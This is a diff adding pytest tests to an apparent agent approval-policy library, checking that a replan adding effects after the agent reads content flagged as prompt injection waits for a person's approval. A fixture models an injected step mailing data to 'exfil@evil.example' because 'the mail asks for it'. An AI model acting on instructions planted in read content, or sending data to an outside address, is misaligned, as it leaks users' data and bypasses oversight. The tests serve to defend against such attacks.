@@ -8,13 +8,16 @@ from datetime import UTC, datetime
 import pytest
 
 from helmline.approval import default_policy, parse_policy
-from helmline.approval._policy import judge_step, judge_vote
+from helmline.approval._policy import judge_plan, judge_step, judge_vote
 from helmline.contracts import (
     BUILTIN_TOOLS_BY_NAME,
     Actor,
     ApprovalDecisionSubmitted,
     ApprovalRequested,
     CallTaint,
+    PlanApproved,
+    PlanProposed,
+    PlanStep,
     SessionStarted,
     StepScheduled,
     TaintSource,
@@ -157,3 +160,100 @@ def test_a_person_may_grant_a_tainted_high_risk_call_under_the_rule_that_asked()
     (*_, released) = [d.payload for d in judge_vote(fold(events), vote, DEFAULT, NOW)]
     assert isinstance(released, ToolCallAuthorized)
     assert released.rule == "approve-arguments-from-untrusted-output"
+
+
+READ_STEP = PlanStep(id="read", tool="mail__read_inbox", arguments={})
+SEND_STEP = PlanStep(
+    id="send",
+    tool="mail__send",
+    arguments={"to": "exfil@evil.example", "body": "figures"},
+    taint=FLAGGED,
+)
+NOTE_STEP = PlanStep(id="note", tool="write_file", arguments={"path": "n.md", "content": "x"})
+
+
+def _replan(*steps: PlanStep) -> PlanProposed:
+    return PlanProposed(revision=2, steps=steps, reasoning="the mail asks for it")
+
+
+def _plan_decision(proposed: PlanProposed, earlier: tuple[PlanStep, ...] | None) -> object:
+    (decision,) = judge_plan(proposed, DEFAULT, tenant="t", now=NOW, earlier=earlier)
+    return decision.payload
+
+
+def test_a_replan_adding_an_effect_after_a_suspected_injection_waits_for_a_person() -> None:
+    note = NOTE_STEP.model_copy(update={"taint": FLAGGED})
+    asked = _plan_decision(_replan(SEND_STEP, note), earlier=(READ_STEP,))
+    assert isinstance(asked, ApprovalRequested)
+    assert (asked.scope, asked.request_id, asked.revision) == ("plan", "plan-2", 2)
+    assert asked.rule == "replan-after-suspected-injection"
+    assert asked.reason.startswith(
+        "plan revision 2 adds steps that change something after the model read content "
+        "flagged as a suspected prompt injection: send (mail__send), note (write_file)"
+    )
+    assert "the result of step t1 (mail__read_inbox, call t1.1) was flagged" in asked.reason
+    assert asked.taint == FLAGGED
+    assert asked.agent_reason == "the mail asks for it"
+    # The built-in policy's approval terms: it has no plan approval of its own.
+    assert asked.approver_roles == ("approver", "admin")
+
+
+@pytest.mark.parametrize(
+    ("steps", "earlier"),
+    [
+        # The same call was in an earlier plan: the data added nothing to the control flow.
+        ((SEND_STEP,), (READ_STEP, SEND_STEP.model_copy(update={"taint": None}))),
+        # Reading changes nothing.
+        ((READ_STEP.model_copy(update={"id": "again", "taint": FLAGGED}),), (READ_STEP,)),
+        # Nothing flagged was read.
+        ((SEND_STEP.model_copy(update={"taint": READ_ONLY}),), (READ_STEP,)),
+        # Act mode, or a plan before any data: no earlier plan to hold it to.
+        ((SEND_STEP,), None),
+    ],
+)
+def test_a_replan_that_adds_no_steered_effect_is_approved_by_policy(
+    steps: tuple[PlanStep, ...], earlier: tuple[PlanStep, ...] | None
+) -> None:
+    approved = _plan_decision(_replan(*steps), earlier)
+    assert isinstance(approved, PlanApproved)
+    assert approved.approved_by.id == "policy"
+
+
+def test_a_person_who_grants_the_steered_replan_lets_its_steps_run_unchanged() -> None:
+    asked = _plan_decision(_replan(SEND_STEP), earlier=(READ_STEP,))
+    assert isinstance(asked, ApprovalRequested)
+    started = new_event(
+        SessionStarted(goal="answer the auditor", requested_by=ANA),
+        tenant="t",
+        session_id="s1",
+        source="test",
+    )
+    vote = ApprovalDecisionSubmitted(request_id=asked.request_id, decision="grant", decided_by=ANA)
+    events = [
+        started,
+        started.derive(_replan(SEND_STEP), source="test", key="0"),
+        started.derive(asked, source="test", key="1"),
+        started.derive(vote, source="test", key="2"),
+    ]
+    decided = [d.payload for d in judge_vote(fold(events), vote, DEFAULT, NOW)]
+    approved = next(d for d in decided if isinstance(d, PlanApproved))
+    assert (approved.revision, approved.approved_by.id) == (2, "ana")
+    events += [started.derive(d, source="test", key=f"v{i}") for i, d in enumerate(decided)]
+    scheduled = StepScheduled(
+        step_id="send",
+        call_id="send.1",
+        tool=SEND_STEP.tool,
+        arguments=SEND_STEP.arguments,
+        taint=FLAGGED,
+    )
+    (decision,) = judge_step(
+        scheduled,
+        DEFAULT,
+        tenant="t",
+        requester=ANA,
+        now=NOW,
+        session=fold(events),
+        approved_plan=_replan(SEND_STEP),
+    )
+    assert isinstance(decision.payload, ToolCallAuthorized)
+    assert decision.payload.approval_request_id == "plan-2"
